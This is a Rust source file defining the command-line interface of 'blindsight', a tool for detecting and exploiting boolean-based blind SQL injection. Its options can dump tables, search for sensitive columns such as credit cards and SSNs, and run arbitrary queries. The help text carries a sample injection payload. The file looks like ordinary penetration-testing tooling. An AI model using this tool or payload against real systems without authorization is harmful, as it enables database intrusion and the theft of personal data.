use clap::{ArgGroup, Args, Parser, Subcommand};

/// blindsight - boolean-based blind SQL injection exploitation
#[derive(Parser, Debug)]
#[command(
    name = "blindsight",
    version,
    about = "Confirms and exploits boolean-based blind SQL injection through response fingerprinting",
    after_help = "EXAMPLES:\n  blindsight exploit -r req.txt --find-important-data -o output.md\n  blindsight exploit -r req.txt --dump-table USERS --limit-rows 10\n  blindsight exploit -r req.txt -q \"SELECT user()\" --database mysql\n  blindsight detect --urls-file urls.txt -o results.md\n  blindsight detect --requests-dir requests/ -v"
)]
pub struct Cli {
    #[command(subcommand)]
    pub command: Command,
}

#[derive(Subcommand, Debug)]
pub enum Command {
    /// Exploit a confirmed injection point to extract data
    Exploit(ExploitArgs),
    /// Scan URLs or raw requests for potential injection points
    Detect(DetectArgs),
}

#[derive(Args, Debug)]
#[command(after_help = "The request file MUST contain an injection marker (<PAYLOAD>, <FUZZ>,\nor <INJECT>) placed where the boolean result changes the response, e.g.:\n\n  GET /users/?id=apple'AND+IF(<INJECT>,true,false)+AND'z'='z HTTP/1.1\n  Host: vulnerable\n")]
pub struct ExploitArgs {
    /// Request file with an injection marker
    #[arg(short = 'r', long = "request-file", help_heading = "TARGET")]
    pub request_file: String,

    /// Database type (mysql, mssql, postgres, oracle); skips detection
    #[arg(long, help_heading = "TARGET")]
    pub database: Option<String>,

    /// Substring whose presence in the body defines a TRUE response
    #[arg(long = "signal-string", help_heading = "TARGET")]
    pub signal_string: Option<String>,

    /// Custom SQL query to extract
    #[arg(short = 'q', long, help_heading = "EXTRACTION")]
    pub query: Option<String>,

    /// Max chars to extract per value (0 = no limit)
    #[arg(
        long = "max-len",
        default_value_t = 70,
        help_heading = "EXTRACTION",
        allow_hyphen_values = true
    )]
    pub max_len: i64,

    /// Extract the current database name
    #[arg(long = "current-db", help_heading = "EXTRACTION")]
    pub current_db: bool,

    /// Extract the current database user
    #[arg(long = "current-user", help_heading = "EXTRACTION")]
    pub current_user: bool,

    /// Search terms separated by comma (e.g. 'credit_card,ssn')
    #[arg(long = "find-columns", help_heading = "DISCOVERY")]
    pub find_columns: Option<String>,

    /// Find tables with commonly sensitive columns
    #[arg(long = "find-important-data", help_heading = "DISCOVERY")]
    pub find_important_data: bool,

    /// Max tables to search
    #[arg(long = "limit-tables", default_value_t = 5, help_heading = "DISCOVERY")]
    pub limit_tables: usize,

    /// Rows to extract per table
    #[arg(long = "limit-rows", default_value_t = 3, help_heading = "DISCOVERY")]
    pub limit_rows: usize,

    /// Dump rows from a specific table
    #[arg(long = "dump-table", help_heading = "DISCOVERY")]
    pub dump_table: Option<String>,

    /// Ignore cached tables and columns for this host
    #[arg(long = "no-cache", help_heading = "DISCOVERY")]
    pub no_cache: bool,

    #[command(flatten)]
    pub general: GeneralArgs,
}

#[derive(Args, Debug)]
#[command(group(ArgGroup::new("input").required(true).args(["urls_file", "requests_dir"])))]
pub struct DetectArgs {
    /// File containing URLs with parameters, one per line
    #[arg(long = "urls-file", help_heading = "INPUT")]
    pub urls_file: Option<String>,

    /// Directory with raw request files (no markers needed)
    #[arg(long = "requests-dir", help_heading = "INPUT")]
    pub requests_dir: Option<String>,

    #[command(flatten)]
    pub general: GeneralArgs,
}

#[derive(Args, Debug)]
pub struct GeneralArgs {
    /// Output file path (markdown)
    #[arg(short, long, help_heading = "GENERAL")]
    pub output: Option<String>,

    /// Custom header (repeatable), e.g. -H 'Cookie: session=...'
    #[arg(short = 'H', long = "header", help_heading = "GENERAL")]
    pub headers: Vec<String>,

    /// Proxy URL, e.g. http://127.0.0.1:8080
    #[arg(long, help_heading = "GENERAL")]
    pub proxy: Option<String>,

    /// Request timeout in seconds
    #[arg(long, default_value_t = 10, help_heading = "GENERAL")]
    pub timeout: u64,

    /// Use plain HTTP instead of HTTPS
    #[arg(long = "plain-http", help_heading = "GENERAL")]
    pub plain_http: bool,

    /// Verbose output (debug level) on stderr
    #[arg(short, long, help_heading = "GENERAL")]
    pub verbose: bool,
}
